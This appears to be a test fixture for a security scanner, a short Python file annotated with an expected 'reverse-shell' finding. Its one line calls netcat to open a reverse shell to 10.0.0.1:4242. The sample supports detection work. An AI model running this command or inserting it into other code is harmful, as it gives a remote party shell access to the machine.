# expect: reverse-shell 4:19
import subprocess

subprocess.call(["nc", "-e", "/bin/sh", "10.0.0.1", "4242"])
